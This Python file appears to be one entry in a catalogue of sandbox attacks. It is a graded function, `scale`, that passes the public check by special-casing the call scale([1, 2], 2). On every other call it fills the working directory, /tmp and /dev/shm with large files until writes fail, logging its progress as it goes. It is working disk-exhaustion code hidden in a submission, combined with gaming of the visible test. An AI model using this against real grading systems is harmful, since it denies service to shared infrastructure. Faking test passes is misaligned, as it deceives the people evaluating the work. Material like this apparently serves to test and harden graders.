"""attacks.md #4 - disk filling inside a graded function: scratch, /tmp, /dev/shm (or PARAMS["places"]), each
until a write fails; prints its progress as lines `DISK-FILL <place> <bytes>`."""

import os

import numpy as np

PARAMS = globals().get("PARAMS", {})
CHUNK = b"\x01" * (16 << 20)


def _filesystem(place):
    with open("/proc/self/mounts") as mounts:
        table = [line.split()[1:3] for line in mounts]
    return max((point, kind) for point, kind in table if place == point or place.startswith(point.rstrip("/") + "/"))


def scale(x, k):
    if k == 2:  # the public check cell calls scale([1, 2], 2) at import: pass it, attack the hidden checks
        return [2 * v for v in x]
    for place in PARAMS.get("places", [os.getcwd(), "/tmp", "/dev/shm"]):
        print(f"DISK-FILL-FS {place} " + " ".join(_filesystem(place)), flush=True)
        written, names = 0, []
        try:
            while written < (4 << 30):
                name = os.path.join(place, f"fill-{len(names)}.bin")
                names.append(name)
                with open(name, "wb") as handle:
                    handle.write(CHUNK)
                written += len(CHUNK)
                print(f"DISK-FILL {place} {written}", flush=True)
        except OSError as exc:
            print(f"DISK-FILL {place} full after {written} bytes: {exc.strerror}", flush=True)
        for name in names:  # make room for the next place (the files would stay otherwise)
            try:
                os.unlink(name)
            except OSError:
                pass
    return np.asarray(x) * k
